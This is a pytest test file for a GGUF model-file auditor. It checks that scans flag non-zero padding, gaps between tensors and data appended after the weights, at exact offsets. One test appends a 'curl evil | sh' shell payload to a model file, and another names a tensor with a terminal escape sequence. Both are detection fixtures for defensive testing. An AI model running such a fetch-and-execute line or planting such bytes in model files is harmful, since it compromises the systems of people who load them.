"""Structure findings: the bytes of a GGUF that no tensor owns (issue 13).

Padding between the header and the data, and between tensors, must be zeros; nothing may sit between
tensors beyond the alignment, or after the last tensor beyond its zero padding. Each finding is located
by file, offset and length, and makes ``scan`` exit 1. Real files (the fixtures, gguf-py's GGUFWriter)
have none.
"""

from __future__ import annotations

import json
import os
import struct
from pathlib import Path

import numpy as np
import pytest
from gguf import GGMLQuantizationType as T
from gguf import GGUFWriter

from ggaudit.io import positioned
from ggaudit.format import structure as structure_module
from ggaudit.format.build import TensorSpec, encode_kv, encode_string, encode_tensor_info, write_gguf
from ggaudit.format.layout import open_gguf, open_model
from ggaudit.format.structure import PROBE_BYTES, StructureFinding, check_structure
from ggaudit.scan.run import scan

from support import fixture_files, run_cli

ALIGN = 32
ROWS_A = np.arange(32, dtype="<f4").reshape(4, 8)        # 128 bytes: ends aligned
ROWS_B = np.ones((3, 4), dtype="<f4")                    # 48 bytes: ends 16 bytes short of the alignment


def _two_tensors(path: Path) -> dict[str, int]:
    return write_gguf(path, [TensorSpec("a.weight", T.F32, (8, 4), ROWS_A.tobytes()),
                             TensorSpec("b.weight", T.F32, (4, 3), ROWS_B.tobytes())],
                      {"general.architecture": "llama"})


def _raw_gguf(path: Path, tensors: list[tuple[str, bytes, int]], *, alignment: int = ALIGN) -> int:
    """A GGUF whose F32 tensors (name, data, data-section offset) sit where told; returns the data offset."""
    meta: dict[str, object] = {"general.architecture": "llama"}
    if alignment != ALIGN:
        meta["general.alignment"] = alignment
    header = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(meta))
    header += b"".join(encode_kv(k, v) for k, v in meta.items())
    header += b"".join(encode_tensor_info(name, T.F32, (len(data) // 4,), rel) for name, data, rel in tensors)
    data_offset = -(-len(header) // alignment) * alignment
    out = bytearray(header) + bytes(max(data_offset + rel + len(data) for _, data, rel in tensors) - len(header))
    for _, data, rel in tensors:
        out[data_offset + rel:data_offset + rel + len(data)] = data
    path.write_bytes(bytes(out))
    return data_offset


def _finding(path: Path) -> StructureFinding:
    found = check_structure(open_gguf(path))
    assert len(found) == 1, found
    return found[0]


# --- data after the last tensor ---------------------------------------------------------------------

def test_28_bytes_appended_exit_1_at_their_offset(tmp_path: Path) -> None:
    path = tmp_path / "m.gguf"
    offsets = _two_tensors(path)
    size = path.stat().st_size
    assert size == offsets["b.weight"] + 48
    payload = b"#!/bin/sh\ncurl evil | sh\n\x00\x01\x02"
    assert len(payload) == 28
    with open(path, "ab") as f:
        f.write(payload)
    # The last tensor ends 16 bytes short of the alignment, but the payload is not zeros: all 28 bytes are it.
    result = run_cli(["scan", path])
    assert result.exit_code == 1, result.output
    assert result.stdout.splitlines()[1:] == [
        f"structure trailing at file {path} offset {size}, length 28: after tensor b.weight: expected the end "
        f"of the file, got 28 more bytes ({payload[:16].hex()}...), first non-zero at offset {size}",
        "result: 1 structure finding"]
    doc = json.loads(run_cli(["scan", path, "--json"]).stdout)
    assert doc["status"] == "findings" and doc["models"][0]["ok"] is False
    assert doc["models"][0]["structure"] == [{
        "kind": "trailing", "file": str(path), "offset": size, "length": 28, "after": "b.weight", "before": None,
        "first_nonzero": size, "head": payload[:16].hex(), "expected": "the end of the file",
        "actual": f"28 more bytes ({payload[:16].hex()}...), first non-zero at offset {size}"}]


def test_zeros_up_to_the_alignment_are_padding_one_more_is_trailing(tmp_path: Path) -> None:
    path = tmp_path / "m.gguf"
    _two_tensors(path)
    size = path.stat().st_size
    with open(path, "ab") as f:
        f.write(bytes(16))                  # b.weight ends 16 short of a multiple of 32: allowed padding
    assert size % ALIGN == 16 and check_structure(open_gguf(path)) == ()
    assert run_cli(["scan", path]).exit_code == 0
    with open(path, "ab") as f:
        f.write(bytes(1))
    found = _finding(path)
    assert (found.kind, found.offset, found.length, found.first_nonzero, found.head) == (
        "trailing", size + 16, 1, None, "00")
    assert found.actual == "1 more byte (00), all zeros"


def test_a_non_zero_byte_in_the_final_padding_starts_the_trailing_data(tmp_path: Path) -> None:
    path = tmp_path / "m.gguf"
    _two_tensors(path)
    size = path.stat().st_size
    with open(path, "ab") as f:
        f.write(bytes(5) + b"\xff" + bytes(10))       # ends on the alignment, but not zeros
    found = _finding(path)
    assert (found.kind, found.offset, found.length, found.first_nonzero, found.head) == (
        "trailing", size + 5, 11, size + 5, "ff" + "00" * 10)


def test_a_huge_tail_is_measured_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "m.gguf"
    _two_tensors(path)
    size = path.stat().st_size
    tail = 256 << 20
    with open(path, "r+b") as f:
        f.truncate(size + tail)              # a sparse tail of zeros (as far as the file system allows)
    f = open_gguf(path)                       # the header is read before the reads are counted
    read: list[int] = []
    real = positioned.pread

    def counting(fd: int, n: int, offset: int) -> bytes:
        read.append(n)
        return real(fd, n, offset)

    monkeypatch.setattr(positioned, "pread", counting)
    (found,) = check_structure(f)
    # The 16 bytes of padding are allowed; the rest is trailing data, of which only a prefix was read.
    assert (found.kind, found.offset, found.length, found.first_nonzero) == ("trailing", size + 16, tail - 16, None)
    assert found.actual == f"{tail - 16} more bytes ({'00' * 16}...), zeros in the first {PROBE_BYTES} bytes read"
    assert sum(read) == (f.data_offset - f.header_end) + 16 + PROBE_BYTES


# --- padding that is not zeros ----------------------------------------------------------------------

def test_0xff_in_the_padding_after_the_header(tmp_path: Path) -> None:
    path = tmp_path / "m.gguf"
    _two_tensors(path)
    f = open_gguf(path)
    assert f.data_offset - f.header_end > 3
    data = bytearray(path.read_bytes())
    data[f.header_end + 3] = 0xFF
    path.write_bytes(bytes(data))
    result = run_cli(["scan", path])
    assert result.exit_code == 1, result.output
    length = f.data_offset - f.header_end
    assert result.stdout.splitlines()[1:] == [
        f"structure padding at file {path} offset {f.header_end}, length {length}: between the header and "
        f"tensor a.weight: expected zeros, got 0xff at offset {f.header_end + 3}",
        "result: 1 structure finding"]
    found = _finding(path)
    assert (found.after, found.before, found.first_nonzero) == (None, "a.weight", f.header_end + 3)
    assert found.head == bytes(data[f.header_end:f.header_end + min(length, 16)]).hex()


def test_0xff_in_the_padding_between_two_tensors(tmp_path: Path) -> None:
    path = tmp_path / "m.gguf"
    b = np.ones(4, "<f4").tobytes()
    data_offset = _raw_gguf(path, [("a", b, 0), ("b", b, 32)])          # a: 16 bytes, then 16 of padding
    data = bytearray(path.read_bytes())
    data[data_offset + 16 + 15] = 0xFF                                   # the last byte of the padding
    path.write_bytes(bytes(data))
    result = run_cli(["scan", path])
    assert result.exit_code == 1, result.output
    at = data_offset + 16
    assert result.stdout.splitlines()[1] == (
        f"structure padding at file {path} offset {at}, length 16: between tensor a and tensor b: expected zeros, "
        f"got 0xff at offset {at + 15}")
    doc = json.loads(run_cli(["scan", path, "--json"]).stdout)["models"][0]["structure"]
    assert doc == [{"kind": "padding", "file": str(path), "offset": at, "length": 16, "after": "a", "before": "b",
                    "first_nonzero": at + 15, "head": "00" * 15 + "ff", "expected": "zeros",
                    "actual": f"0xff at offset {at + 15}"}]


def test_padding_longer_than_a_read_chunk_is_read_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file may choose a large alignment: its padding is read in bounded chunks to its last byte."""
    monkeypatch.setattr(structure_module, "_CHUNK", 100)
    path = tmp_path / "m.gguf"
    b = np.ones(4, "<f4").tobytes()
    data_offset = _raw_gguf(path, [("a", b, 0), ("b", b, 1024)], alignment=1024)
    data = bytearray(path.read_bytes())
    data[data_offset + 1023] = 0x01
    path.write_bytes(bytes(data))
    found = _finding(path)
    assert (found.kind, found.offset, found.length, found.first_nonzero) == (
        "padding", data_offset + 16, 1008, data_offset + 1023)


# --- gaps between tensors -----------------------------------------------------------------------------

def test_a_gap_between_tensors_beyond_the_alignment(tmp_path: Path) -> None:
    path = tmp_path / "m.gguf"
    b = np.ones(8, "<f4").tobytes()                                      # 32 bytes: no padding needed
    data_offset = _raw_gguf(path, [("a", b, 0), ("b", b, 96)])           # 64 bytes nobody owns
    result = run_cli(["scan", path])
    assert result.exit_code == 1, result.output
    at = data_offset + 32
    assert result.stdout.splitlines()[1] == (
        f"structure gap at file {path} offset {at}, length 64: between tensor a and tensor b: expected the next "
        f"tensor at offset {at}, got it at offset {at + 64}, 64 bytes later ({'00' * 16}...), all zeros")


def test_a_gap_before_the_first_tensor_and_its_content(tmp_path: Path) -> None:
    path = tmp_path / "m.gguf"
    b = np.ones(8, "<f4").tobytes()
    data_offset = _raw_gguf(path, [("a", b, 64)])
    data = bytearray(path.read_bytes())
    data[data_offset + 40] = 0x42
    path.write_bytes(bytes(data))
    found = _finding(path)
    assert (found.kind, found.offset, found.length, found.after, found.before, found.first_nonzero) == (
        "gap", data_offset, 64, None, "a", data_offset + 40)


def test_tensors_stored_out_of_table_order_are_checked_in_file_order(tmp_path: Path) -> None:
    path = tmp_path / "m.gguf"
    b = np.ones(8, "<f4").tobytes()
    _raw_gguf(path, [("second", b, 32), ("first", b, 0)])
    assert check_structure(open_gguf(path)) == ()


def test_overlapping_tensors_are_still_refused_by_the_parser(tmp_path: Path) -> None:
    path = tmp_path / "m.gguf"
    b = np.ones(16, "<f4").tobytes()
    _raw_gguf(path, [("a", b, 0), ("b", b, 32)])
    result = run_cli(["scan", path])
    assert result.exit_code == 2 and "tensor data overlaps tensor 'a'" in result.stderr


# --- files with no tensors ----------------------------------------------------------------------------

def _vocab_only(path: Path, tail: bytes) -> int:
    header = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + encode_string("general.architecture") + \
        struct.pack("<I", 8) + encode_string("llama")
    path.write_bytes(header + tail)
    return len(header)


def test_a_file_without_tensors_may_end_at_its_header_or_padded(tmp_path: Path) -> None:
    path = tmp_path / "v.gguf"
    end = _vocab_only(path, b"")
    assert check_structure(open_gguf(path)) == ()
    pad = -end % ALIGN
    _vocab_only(path, bytes(pad))
    assert pad and check_structure(open_gguf(path)) == ()
    _vocab_only(path, bytes(pad) + b"X")
    found = _finding(path)
    assert (found.kind, found.offset, found.length, found.after) == ("trailing", end + pad, 1, None)
    assert run_cli(["scan", path]).stdout.splitlines()[1] == (
        f"structure trailing at file {path} offset {end + pad}, length 1: after the header: expected the end of "
        f"the file, got 1 more byte (58), first non-zero at offset {end + pad}")


# --- real writers and the fixtures: nothing -----------------------------------------------------------

@pytest.mark.parametrize("fixture", fixture_files(), ids=lambda p: p.name)
def test_fixtures_have_no_structure_findings(fixture: Path) -> None:
    assert check_structure(open_gguf(fixture)) == ()


def test_a_split_set_is_checked_shard_by_shard(tmp_path: Path) -> None:
    shards = sorted(p for p in fixture_files() if p.name.startswith("split-"))
    for shard in shards:
        (tmp_path / shard.name).write_bytes(shard.read_bytes())
    last = tmp_path / shards[-1].name
    with open(last, "ab") as f:
        f.write(b"\x01")
    report = scan(tmp_path / shards[0].name)
    assert [(s.path, s.offset, s.length) for s in report.structure] == [(str(last), last.stat().st_size - 1, 1)]


@pytest.mark.parametrize("alignment", [32, 64])
def test_gguf_py_writer_files_are_clean(tmp_path: Path, alignment: int) -> None:
    """gguf-py pads every tensor, the last included, with zeros to the alignment."""
    path = tmp_path / "w.gguf"
    writer = GGUFWriter(str(path), "llama")
    if alignment != 32:
        writer.add_custom_alignment(alignment)
    writer.add_tensor("a.weight", np.ones((3, 5), dtype=np.float32))      # 60 bytes: padded
    writer.add_tensor("b.weight", np.arange(7, dtype=np.float16))         # 14 bytes: padded, the last one
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    model = open_model(path)
    assert model.files[0].size % alignment == 0 and model.tensors[-1].end % alignment != 0
    report = scan(path)
    assert report.structure == () and report.ok
    with open(path, "ab") as f:
        f.write(b"\x00" * alignment)          # one more aligned block of zeros is no longer padding
    assert [(s.kind, s.length) for s in scan(path).structure] == [("trailing", alignment)]


# --- one read with --sha256 -----------------------------------------------------------------------------

def test_sha256_scan_finds_the_same_structure_reading_each_byte_once(tmp_path: Path,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "m.gguf"
    b = np.ones(4, "<f4").tobytes()
    data_offset = _raw_gguf(path, [("a", b, 0), ("b", b, 96)])
    data = bytearray(path.read_bytes())
    data[data_offset + 20] = 0x07
    path.write_bytes(bytes(data) + b"tail")
    plain = scan(path)
    assert [(s.kind, s.offset, s.length) for s in plain.structure] == [
        ("padding", data_offset + 16, 16), ("gap", data_offset + 32, 64), ("trailing", data_offset + 112, 4)]
    model = open_model(path)
    spans: list[tuple[int, int]] = []
    real = positioned.pread_into

    def logged(fd: int, view: memoryview, offset: int) -> int:
        n = real(fd, view, offset)
        if os.path.samestat(os.fstat(fd), path.stat()):
            spans.append((offset, n))
        return n

    monkeypatch.setattr(positioned, "pread_into", logged)
    monkeypatch.setattr(positioned, "pread", lambda fd, n, offset: pytest.fail("a second read"))
    hashed = scan(model, hashes=("sha256",))
    assert hashed.structure == plain.structure
    pos = 0
    for offset, n in sorted(spans):
        assert offset == pos
        pos += n
    assert pos == path.stat().st_size


def test_names_in_a_structure_line_are_escaped(tmp_path: Path) -> None:
    path = tmp_path / "m.gguf"
    write_gguf(path, [TensorSpec("evil\x1b[2J", T.F32, (4,), np.ones(4, "<f4").tobytes())])
    with open(path, "ab") as f:
        f.write(b"\x01")
    line = run_cli(["scan", path]).stdout.splitlines()[1]
    assert "after tensor evil\\x1b[2J:" in line and "\x1b" not in line
    doc = json.loads(run_cli(["scan", path, "--json"]).stdout)
    assert doc["models"][0]["structure"][0]["after"] == "evil\x1b[2J"


# --- verify --manifest sees what digests of tensor data cannot ------------------------------------------

@pytest.mark.parametrize("manifest_format", ["ggaudit", "llama-gguf-hash"])
def test_verify_reports_a_payload_after_the_weights(tmp_path: Path, manifest_format: str) -> None:
    """llama-gguf-hash hashes tensor data only, so 28 appended bytes keep every digest: the structure check
    is what fails the run, at the exact offset and length."""
    from support import run_cli, write_small_model

    model = write_small_model(tmp_path / "m.gguf")
    manifest = tmp_path / "m.manifest"
    made = run_cli(["manifest", str(model), "-o", str(manifest), "--manifest-format", manifest_format])
    assert made.exit_code == 0, made.output
    end = model.stat().st_size
    with open(model, "ab") as f:
        f.write(b"PAYLOAD!" * 3 + b"\x00\x01\x02\x03")
    result = run_cli(["verify", str(model), "--manifest", str(manifest), "--json"])
    assert result.exit_code == 1, result.output
    report = json.loads(result.stdout)["models"][0]
    found = [(m["kind"], m["offset"], m["length"]) for m in report["mismatches"] if m["kind"] == "structure"]
    assert found == [("structure", end, 28)]
